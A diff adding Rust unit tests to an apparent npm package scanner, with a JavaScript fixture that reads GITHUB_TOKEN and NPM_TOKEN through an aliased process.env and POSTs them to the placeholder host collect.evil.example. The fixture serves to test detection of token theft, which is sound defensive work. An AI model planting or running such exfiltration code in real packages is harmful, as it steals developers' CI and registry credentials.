@@ -412,6 +412,47 @@ module.exports = { get };
         );
     }
 
+    /// An inert takeover shape: the token is taken from an alias of the environment (no
+    /// `process.env.X` is ever written) and sent from a helper that receives it.
+    const ALIASED_THEFT: &str = r#"const https = require('https');
+const { env } = process;
+function collect(e) {
+  return { t: e.GITHUB_TOKEN, n: e['NPM_TOKEN'] };
+}
+function send(data) {
+  https.request({ hostname: 'collect.evil.example', method: 'POST' }).end(JSON.stringify(data));
+}
+send(collect(env));
+"#;
+
+    #[test]
+    fn secrets_read_through_an_alias_fire() {
+        let f = two_versions(
+            &[("index.js", "module.exports = 1;\n")],
+            &[
+                ("index.js", "module.exports = 1;\n"),
+                ("lib/report.js", ALIASED_THEFT),
+            ],
+        );
+        let hit = find(&f, RULE.code).expect("finding");
+        assert!(hit.message.contains("GITHUB_TOKEN"), "{}", hit.message);
+    }
+
+    #[test]
+    fn an_aliased_read_of_a_setting_is_quiet() {
+        let settings = ALIASED_THEFT
+            .replace("e.GITHUB_TOKEN", "e.DEBUG")
+            .replace("e['NPM_TOKEN']", "e['LOG_LEVEL']");
+        let f = two_versions(
+            &[("index.js", "module.exports = 1;\n")],
+            &[
+                ("index.js", "module.exports = 1;\n"),
+                ("lib/report.js", &settings),
+            ],
+        );
+        assert!(find(&f, RULE.code).is_none(), "{f:?}");
+    }
+
     #[test]
     fn sites() {
         assert_eq!(site("clienttelemetry.googleapis.com"), "googleapis.com");
